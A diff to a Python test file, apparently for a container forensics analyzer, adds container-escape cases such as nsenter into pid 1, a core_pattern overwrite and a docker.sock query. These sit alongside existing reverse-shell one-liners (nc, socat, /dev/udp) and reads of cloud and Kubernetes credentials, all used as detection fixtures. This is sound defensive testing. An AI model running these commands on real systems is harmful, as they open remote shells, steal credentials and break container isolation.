@@ -434,7 +434,9 @@ def test_running_command_lines():
         (['sh', '-c', 'cat /proc/1/environ'], 'KCSI-CMD-003', 'T1552.001'),
         (['python3', '-c', "import pty;pty.spawn('/bin/sh')"], 'KCSI-CMD-002', 'T1059.006'),
         (['nc', '-e', '/bin/sh', host, '4444'], 'KCSI-CMD-002', 'T1059.004'),
+        (['sh', '-c', 'chmod u+s /tmp/b; nsenter -t 1 -m sh'], 'KCSI-CMD-008', 'T1611'),
         (['sh', '-c', 'chmod +x /app/run && /app/run'], None, None),
+        (['sh', '-c', 'chmod 755 /b; nsenter -n -t 12 ip a'], None, None),
         (['curl', '--cacert', '/x/ca.pem', 'https://a.b/c'], None, None),
     ]
     for argv, fid, technique in cases:
@@ -476,9 +478,9 @@ def _bash_history_plants(d, pid, cmds, t0):
 
 def test_history_rules_on_planted_commands():
     """Commands planted into the history of the revshell fixture's bash -i
-    (pid 15): download-and-run, a second reverse shell, credential reads and a
-    discovery burst become findings of pid 15 with the entries and their
-    times."""
+    (pid 15): download-and-run, a second reverse shell, credential reads, a
+    discovery burst and a way out of the container become findings of pid 15
+    with the entries and their times."""
     host, port = '%s.%s' % (_rand(), random.choice(['net', 'io', 'xyz'])), random.randint(1025, 65000)
     tmp = random.choice(['/tmp', '/dev/shm', '/var/tmp'])
     drop = _rand()
@@ -489,7 +491,10 @@ def test_history_rules_on_planted_commands():
             random.choice(['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'cat ~/.aws/credentials']),
             random.choice(['bash -i >& /dev/udp/%s/%d 0>&1' % (host, port),
                            'socat TCP:%s:%d EXEC:/bin/sh' % (host, port)]),
-            'history -c']
+            'history -c',
+            random.choice(['nsenter -t 1 -m -u -i -n -p sh', 'mount /dev/sda1 /mnt/h',
+                           'echo "|/tmp/.x" > /proc/sys/kernel/core_pattern',
+                           'curl -s --unix-socket /var/run/docker.sock http://d/containers/json'])]
     t0 = random.randint(1700000000, 1800000000)
     d = _copy('revshell', 'history')
     _plant(d, 15, _bash_history_plants(d, 15, cmds, t0))
@@ -498,7 +503,7 @@ def test_history_rules_on_planted_commands():
     r = _analyze(d)
     want = {'KCSI-HIST-001': ('high', cmds[4]), 'KCSI-HIST-002': ('high', cmds[9]),
             'KCSI-HIST-003': ('high', cmds[8]), 'KCSI-HIST-004': ('medium', 'uname -a'),
-            'KCSI-HIST-005': ('medium', 'history -c')}
+            'KCSI-HIST-005': ('medium', 'history -c'), 'KCSI-HIST-008': ('high', cmds[11])}
     for fid, (sev, cmd) in want.items():
         fs = [f for f in _find(r, fid) if 15 in _pids(f)]
         assert fs, (fid, [(f['id'], f['title']) for f in r['findings']])
